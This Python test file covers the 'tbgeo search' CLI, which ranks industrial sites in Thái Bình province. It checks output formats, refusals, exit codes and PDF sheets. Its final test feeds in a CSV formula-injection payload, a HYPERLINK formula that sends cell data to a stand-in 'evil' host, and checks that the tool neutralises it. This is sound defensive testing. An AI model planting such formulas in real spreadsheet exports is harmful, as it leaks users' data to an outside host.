"""``tbgeo search``: JSON fields, GeoJSON, files written (safe CSV), exit codes 0 / 1 (refused) / 2."""

from __future__ import annotations

import csv
import io
import json

import geopandas as gpd
import pytest
from shapely.geometry import shape

from tbgeo.cli import main


def _search(capsys, *argv):
    rc = main(["search", *map(str, argv)])
    out = capsys.readouterr()
    return rc, out.out, out.err


def test_json_fields_and_exit_0(capsys) -> None:
    rc, out, err = _search(capsys, "--sector", "electronics", "--area-ha", 50, "--gas", "--workforce", 2000,
                           "--top", 4, "--cell", 50, "--format", "json", "--lang", "en")
    assert rc == 0, err
    d = json.loads(out)
    assert [c["rank"] for c in d["candidates"]] == [1, 2, 3, 4]
    first = d["candidates"][0]
    assert set(first) >= {"rank", "score", "area_ha", "geometry", "rice", "districts", "verdict", "findings"}
    assert 0 < first["score"] <= 1 and first["area_ha"] >= 50
    geom = shape(first["geometry"])
    assert geom.geom_type == "Polygon"
    lon, lat = geom.centroid.x, geom.centroid.y
    assert 106.0 < lon < 106.8 and 20.2 < lat < 20.8  # WGS 84, inside Thái Bình
    # the GeoJSON polygon is the reviewed site: its area in 9209 is the candidate's
    area = gpd.GeoSeries([geom], crs=4326).to_crs(9209).area.iloc[0] / 1e4
    assert area == pytest.approx(first["area_ha"], rel=1e-6)
    assert set(first["rice"]) == {"luc_ha", "luk_ha"} and first["rice"]["luc_ha"] == pytest.approx(0.0, abs=0.01)
    assert first["districts"] and all(isinstance(n, str) for n in first["districts"])
    # where it is in both systems (issue 15): the review's former districts and the new communes
    from tbgeo.places import crosswalk

    places = first["places"]
    assert [d["name"] for d in places["former_districts"]] == first["districts"]
    assert places["new_communes_exact"] is False  # no communes_2025 layer is shipped
    expected = sorted({u.code for d in places["former_districts"] for u in crosswalk().new_of_district(d["code"])})
    assert [c["code"] for c in places["new_communes_candidates"]] == expected
    assert places["text"].startswith("former district: " + ", ".join(first["districts"]) + "; the former district now")
    assert first["verdict"] in ("ok", "info", "warn", "block")
    assert {f["rule"] for f in first["findings"]} >= {"rice_land", "industrial_zone", "gas_corridor", "province"}
    m = d["model"]
    assert {"constraints", "factors", "weights"} <= set(m)
    assert all(c["citation"] for c in m["constraints"] + m["factors"] + m["weights"])
    assert next(c for c in m["constraints"] if c["id"] == "gas_corridor")["citation"].startswith(
        "Điều 1, IV.7.c; Decree 13/2011/NĐ-CP")
    assert m["cell_m"] == 50.0


def test_sensitivity_in_json(capsys) -> None:
    rc, out, _ = _search(capsys, "--sector", "glass", "--area-ha", 20, "--top", 3, "--cell", 100, "--no-review",
                         "--sensitivity", "--format", "json", "--lang", "en")
    assert rc == 0
    sens = json.loads(out)["sensitivity"]
    assert {(v["factor"], v["change"]) for v in sens} == {(f, c) for f in ("zone", "gas", "river", "luk", "raw_material")
                                                          for c in (0.2, -0.2)}
    assert all(v["text"].endswith("stable (same places, same order)") == v["stable"] for v in sens)


def test_refused_sector_exit_1_with_citation(capsys, tmp_path) -> None:
    rc, out, _ = _search(capsys, "--sector", "tanning", "--area-ha", 20, "--out", tmp_path / "kq.gpkg",
                         "--sheet", tmp_path / "kq.pdf")
    assert rc == 1
    assert list(tmp_path.iterdir()) == []  # no empty GeoPackage, no sheet: only the refusal
    assert out.strip() == ("Quy hoạch không chấp thuận ngành “Thuộc da” (tanning): không tìm địa điểm cho dự án này. "
                           "Căn cứ: Điều 1, III.4.")
    rc, out, _ = _search(capsys, "--sector", "tanning", "--area-ha", 20, "--format", "json", "--lang", "en")
    d = json.loads(out)
    assert rc == 1 and d["candidates"] == [] and d["refused"] is True
    assert d["refusal"]["citation"] == "Điều 1, III.4"
    assert d["refusal"]["message"] == ("The plan refuses the sector “Leather tanning” (tanning): no site is searched for this "
                                      "project. Citation: Điều 1, III.4.")


@pytest.mark.parametrize(
    ("argv", "vi", "en"),
    [
        (["--sector", "glass", "--area-ha", "0"], "Diện tích “0.0” không hợp lệ", "Area “0.0” is not valid"),
        (["--sector", "nope", "--area-ha", "5"], "Không có ngành «nope»", "nope"),
        (["--sector", "glass", "--area-ha", "5", "--cell", "1"], "Kích thước ô “1.0” m không hợp lệ",
         "Cell size “1.0” m is not valid"),
        (["--sector", "glass", "--area-ha", "5", "--out", "x.docx"], "đuôi tệp phải là", "the file must end in"),
        (["--sector", "glass", "--area-ha", "abc"], "abc", "abc"),
    ],
)
def test_bad_input_exit_2(capsys, tmp_path, monkeypatch, argv, vi, en) -> None:
    monkeypatch.chdir(tmp_path)
    rc, out, err = _search(capsys, *argv)
    assert rc == 2 and vi in err and "Traceback" not in err
    rc, out, err = _search(capsys, *argv, "--lang", "en")
    assert rc == 2 and en in err
    assert list(tmp_path.iterdir()) == []  # nothing half-written


def test_inconsistent_ahp_weights_exit_2(capsys, tmp_path) -> None:
    f = tmp_path / "w.toml"
    f.write_text('[ahp]\nnames = ["zone", "gas", "luk", "river"]\n'
                 'matrix = [[1, 2, 4, 8], [0.5, 1, 2, 4], [0.25, 0.5, 1, 0.25], [0.125, 0.25, 4, 1]]\n', encoding="utf-8")
    rc, _, err = _search(capsys, "--sector", "glass", "--area-ha", 10, "--weights", f, "--lang", "en")
    assert rc == 2
    assert "CR = 0.216 ≥ 0.10" in err and "“Share of other rice land (LUK) converted, id luk” – “Distance to a river" in err


def test_direct_weights_file_and_outputs(capsys, tmp_path) -> None:
    w = tmp_path / "w.json"
    w.write_text(json.dumps({"zone": 0.5, "luk": 0.5}), encoding="utf-8")
    gpkg = tmp_path / "kq.gpkg"
    rc, out, err = _search(capsys, "--sector", "glass", "--area-ha", 10, "--weights", w, "--cell", 50, "--top", 3,
                           "--out", gpkg)
    assert rc == 0, err
    assert f"Đã ghi {gpkg}." in out
    frame = gpd.read_file(gpkg, layer="candidates")
    assert list(frame["rank"]) == [1, 2, 3] and frame.crs.to_epsg() == 9209
    assert (frame.geometry.area / 1e4 >= 10).all()
    rc, out, _ = _search(capsys, "--sector", "glass", "--area-ha", 10, "--weights", w, "--cell", 50, "--top", 3,
                         "--format", "geojson")
    fc = json.loads(out)
    assert [f["properties"]["rank"] for f in fc["features"]] == [1, 2, 3]
    weights = {x["factor"]: x["weight"] for x in fc["model"]["weights"]}
    # glass uses gas (sector list), so the gas factor counts, with weight 0 as given; no road layer
    assert weights == {"zone": 0.5, "gas": 0.0, "river": 0.0, "luk": 0.5, "raw_material": 0.0}
    assert fc["model"]["weights_source"] == "direct"
    csv_out = tmp_path / "kq.csv"
    rc, _, _ = _search(capsys, "--sector", "glass", "--area-ha", 10, "--weights", w, "--cell", 50, "--top", 3,
                       "--out", csv_out, "--lang", "en", "--no-review")
    header = csv_out.read_text(encoding="utf-8-sig").splitlines()[0]  # with a BOM, for Excel
    assert header == "Rank,Score,Area (ha),LUC (ha),LUK (ha),Districts,Zone,To gas pipe (km),Review verdict,Worst finding"


def test_a3_sheet(capsys, tmp_path) -> None:
    import re

    from pypdf import PdfReader

    pdf = tmp_path / "kq.pdf"
    rc, out, err = _search(capsys, "--sector", "electronics", "--area-ha", 50, "--top", 3, "--cell", 100, "--sheet", pdf)
    assert rc == 0, err
    assert f"Đã ghi {pdf}." in out
    page = PdfReader(pdf).pages[0]
    w, h = float(page.mediabox.width), float(page.mediabox.height)
    assert (round(w / 72 * 25.4), round(h / 72 * 25.4)) == (420, 297)  # A3 landscape
    text = page.extract_text()
    for needle in ("KẾT QUẢ TÌM KIẾM ĐỊA ĐIỂM", "DỰ THẢO", "Đất chuyên trồng lúa nước (LUC)", "Luật Đất đai 2024, Điều 122",
                   "Khoảng cách tới khu kinh tế / KCN / CCN", "Điều 1, III.3; III.4", "Kết luận thẩm tra"):
        assert needle in text, needle
    # issue 15: each candidate's place in both systems (former district; the 2025 communes it may be in)
    flat = " ".join(text.split())
    assert "Vị trí theo hai hệ thống (huyện cũ; xã, phường mới từ 1/7/2025)" in flat
    assert re.search(r"1\. huyện cũ: [^;]+; huyện cũ nay thuộc các xã, phường mới: xã ", flat), flat[:2000]
    assert "cần nhập lớp «Xã, phường từ 1/7/2025»" in flat  # never a guess shown as fact
    rc, _, err = _search(capsys, "--sector", "electronics", "--area-ha", 50, "--cell", 100, "--sheet", tmp_path / "x.svg")
    assert rc == 2 and "đuôi tệp phải là .pdf hoặc .png" in err
    assert not (tmp_path / "x.svg").exists()


def test_a3_sheet_with_many_candidates_keeps_the_model_on_the_sheet(capsys, tmp_path) -> None:
    # 60 candidates do not fit the table: the rows that fit, a line for the rest, and the model
    # (weights, constraints, citations) still on the sheet — nothing drawn below its bottom edge
    import re

    from pypdf import PdfReader

    pdf = tmp_path / "kq.pdf"
    rc, _, err = _search(capsys, "--sector", "glass", "--area-ha", 5, "--top", 60, "--cell", 100, "--no-review",
                         "--sheet", pdf)
    assert rc == 0, err
    page = PdfReader(pdf).pages[0]
    ys: list[float] = []
    page.extract_text(visitor_text=lambda text, cm, tm, *_: ys.append(tm[5] * cm[3] + cm[5]) if text.strip() else None)
    text = page.extract_text()
    more = re.search(r"… và (\d+) khu đất khác \(hạng (\d+)–60\)", text)
    assert more is not None and int(more.group(1)) == 60 - int(more.group(2)) + 1 and int(more.group(1)) >= 1
    for needle in ("Yếu tố và trọng số", "Đất bị loại trừ", "Đất của đề xuất khác đang chờ duyệt hoặc đã duyệt",
                   "Luật Đất đai 2024, Điều 122"):
        assert needle in text, needle
    assert ys and min(ys) > 0  # PDF y runs up from the bottom edge


@pytest.mark.parametrize("lang", ["vi", "en"])
def test_search_csv_neutralises_names_from_imported_layers(lang: str) -> None:
    """The site search's CSV: a park name from an imported layer (the candidate's zone, the worst
    finding) starting a formula gets its "'"; numbers stay numbers."""
    from types import SimpleNamespace

    from tbgeo.i18n import t
    from tbgeo.search.run import SearchResult

    zone = '=HYPERLINK("http://evil/?"&A1,"KCN Tiền Hải")'
    row = {
        t("search.col.rank", lang): 1, t("search.col.score", lang): 0.812, t("search.col.area", lang): 50.0,
        t("search.col.luc", lang): 0.0, t("search.col.luk", lang): -0.0, t("search.col.districts", lang): "Tiền Hải",
        t("search.col.zone", lang): zone, t("search.col.gas", lang): None,
        t("search.col.verdict", lang): "OK", t("search.col.worst", lang): "@SUM(A1:A9)",
    }  # fmt: skip
    text = SearchResult.to_csv(SimpleNamespace(table=lambda _lang: [row]), lang)  # type: ignore[arg-type]
    header, cells = list(csv.reader(io.StringIO(text), delimiter=";" if lang == "vi" else ","))
    assert header[6] == t("search.col.zone", lang)
    assert cells[6] == "'" + zone and cells[9] == "'@SUM(A1:A9)"
    if lang == "vi":  # as Excel set to Vietnamese reads numbers: decimal comma, ';' between cells
        assert cells[:3] == ["1", "0,812", "50"] and cells[4] == "0" and cells[7] == ""
    else:
        assert cells[:3] == ["1", "0.812", "50.0"] and cells[4] == "-0.0" and cells[7] == ""
